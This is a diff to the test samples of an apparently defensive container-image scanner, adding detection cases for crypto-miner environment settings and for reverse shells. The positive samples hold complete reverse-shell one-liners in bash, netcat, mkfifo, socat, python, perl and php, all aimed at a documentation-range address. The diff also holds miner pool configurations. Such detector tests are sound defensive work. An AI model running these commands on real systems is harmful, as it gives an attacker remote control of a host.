@@ -124,6 +124,62 @@ const INDICATOR_SAMPLES: Record<string, { positive: string[]; negative: string[]
     positive: ['./xmrig -c config.json', 'exec /opt/kdevtmpfsi'],
     negative: ['echo xmriggers', 'miner'],
   },
+  'miner-env-pool': {
+    positive: [
+      'POOL_URL=198.51.100.3:3333',
+      'MINING_POOL=xmr.pool.example.test:7029',
+      'POOL=stratum+tcp://p.example.test:80',
+    ],
+    negative: [
+      'REDIS_POOL_URL=redis:6379',
+      'DB_POOL=db:5432',
+      'POOL_SIZE=10',
+      'pool_url=a.example.test:3333',
+    ],
+  },
+  'miner-env-algo': {
+    positive: ['ALGO=rx/0', 'MINING_ALGORITHM=kawpow'],
+    negative: ['ALGORITHM=HS256', 'JWT_ALGO=RS256'],
+  },
+  'miner-env-coin': { positive: ['COIN=XMR', 'MINER_COIN=monero'], negative: ['COIN=BTC', 'COINBASE_KEY=x'] },
+  'reverse-shell-dev-tcp': {
+    positive: [
+      'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
+      'sh -c "exec 5<>/dev/tcp/198.51.100.7/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"',
+      '0<&196;exec 196<>/dev/tcp/198.51.100.7/4444; sh <&196 >&196 2>&196',
+    ],
+    negative: [
+      '(echo > /dev/tcp/db/5432) >/dev/null 2>&1',
+      'timeout 1 bash -c "cat < /dev/null > /dev/tcp/db/5432"',
+    ],
+  },
+  'reverse-shell-netcat': {
+    positive: [
+      'nc -e /bin/sh 198.51.100.7 4444',
+      'ncat 198.51.100.7 4444 -e /bin/bash',
+      'busybox nc 198.51.100.7 4444 -e sh',
+    ],
+    negative: ['nc -z db 5432', 'nc -l 8080 < index.html'],
+  },
+  'reverse-shell-fifo': {
+    positive: [
+      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
+      'nc 198.51.100.7 4444 | /bin/sh | nc 198.51.100.7 4445',
+    ],
+    negative: ['mkfifo /tmp/log.pipe && tail -f /tmp/log.pipe', 'nc -z db 5432 | tee probe.log'],
+  },
+  'reverse-shell-socat': {
+    positive: ['socat TCP:198.51.100.7:4444 EXEC:/bin/sh', "socat tcp-listen:4444,fork exec:'bash -li',pty"],
+    negative: ['socat TCP-LISTEN:80,fork TCP:app:8080', 'socat - UNIX-CONNECT:/run/app.sock'],
+  },
+  'reverse-shell-script': {
+    positive: [
+      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
+      'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("198.51.100.7")));open(STDIN,">&S");exec("/bin/sh -i");\'',
+      'php -r \'$s=fsockopen("198.51.100.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
+    ],
+    negative: ['python3 -c "import socket; print(socket.gethostname())"', 'python3 -m http.server 8080'],
+  },
   'add-url': { positive: ['ADD https://x.example.test/a.tgz /opt/'], negative: ['ADD file:abc in /'] },
   'docker-socket': {
     positive: ['-v /var/run/docker.sock:/var/run/docker.sock'],
@@ -321,8 +377,63 @@ const FINDING_SAMPLES: Record<string, { positive: [ResolvedImage, string][]; neg
       [image({ ...USER, Entrypoint: ['/opt/xmrig'], Cmd: ['-o', `${POOL}:3333`, '-a', 'rx/0'] }), 'critical'],
       [image({ ...USER, Env: [`POOL=stratum+tcp://${POOL}:3333`] }), 'high'],
       [image(USER, [{ created_by: `RUN echo ${WALLET} > /opt/w` }]), 'high'],
+      // Configured by environment variables alone.
+      [image({ ...USER, Env: ['POOL_URL=198.51.100.3:3333', 'ALGO=rx/0'] }), 'high'],
+      [image({ ...USER, Env: ['MINING_POOL=xmr.pool.example.test:7029', 'COIN=XMR'] }), 'high'],
     ],
-    negative: [image({ ...USER, Cmd: ['nginx', '-g', 'daemon off;'] })],
+    negative: [
+      image({ ...USER, Cmd: ['nginx', '-g', 'daemon off;'] }),
+      image({
+        ...USER,
+        Env: ['REDIS_POOL_URL=redis:6379', 'DB_POOL=db:5432', 'POOL_SIZE=10', 'ALGORITHM=HS256'],
+      }),
+    ],
+  },
+  'reverse-shell': {
+    positive: [
+      [
+        image({
+          ...USER,
+          Entrypoint: ['/bin/bash', '-c'],
+          Cmd: ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
+        }),
+        'critical',
+      ],
+      [image({ ...USER, Cmd: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'] }), 'critical'],
+      [
+        image({
+          ...USER,
+          Cmd: [
+            'sh',
+            '-c',
+            'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f',
+          ],
+        }),
+        'critical',
+      ],
+      [
+        image({
+          ...USER,
+          Cmd: [
+            'python3',
+            '-c',
+            'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
+          ],
+        }),
+        'critical',
+      ],
+      [image({ ...USER, Env: ['PROMPT_COMMAND=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }), 'high'],
+      [image(USER, [{ created_by: 'RUN socat TCP-LISTEN:4444,fork EXEC:/bin/bash' }]), 'high'],
+    ],
+    negative: [
+      // Waiting for a database through /dev/tcp, a port forward, netcat as a probe.
+      image({
+        ...USER,
+        Cmd: ['sh', '-c', 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec node app.js'],
+      }),
+      image({ ...USER, Cmd: ['socat', 'TCP-LISTEN:80,fork,reuseaddr', 'TCP:app:8080'] }),
+      image({ ...USER, Cmd: ['sh', '-c', 'while ! nc -z db 5432; do sleep 1; done; exec ./server'] }),
+    ],
   },
   'exposed-ssh': {
     positive: [[image({ ...USER, ExposedPorts: { '22/tcp': {} } }), 'low']],
